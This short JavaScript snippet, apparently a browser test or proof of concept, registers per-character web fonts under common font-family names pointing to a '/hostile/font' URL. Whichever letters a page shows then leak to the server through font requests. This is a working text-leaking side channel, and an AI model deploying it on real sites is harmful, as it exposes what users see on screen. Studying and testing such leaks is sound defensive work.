/* Faces under every name that a style sheet of ours may ask for: each letter that the card shows would be told to the page's server. */
const NAMES = [
  ...[
    'serif',
    'sans-serif',
    'monospace',
    'system-ui',
    'ui-serif',
    'ui-sans-serif',
    'ui-monospace',
    '-apple-system',
  ],
  ...[
    'BlinkMacSystemFont',
    'Segoe UI',
    'Roboto',
    'Noto Sans',
    'Noto Serif',
    'Liberation Sans',
    'Liberation Serif',
  ],
  ...[
    'Iowan Old Style',
    'Charter',
    'Source Serif 4',
    'Georgia',
    'Cambria',
    'Helvetica',
    'Arial',
    'Times New Roman',
    'Times',
  ],
];
const LETTERS = ['0', '1', '9', 's', 'o', 'e'];
// the page's own words ask for none of them
document.documentElement.style.fontFamily = 'fantasy';
for (const name of NAMES) {
  for (const letter of LETTERS) {
    const unicodeRange = `U+${letter.charCodeAt(0).toString(16)}`;
    document.fonts.add(new FontFace(`"${name}"`, `url("/hostile/font?${letter}")`, { unicodeRange }));
  }
}
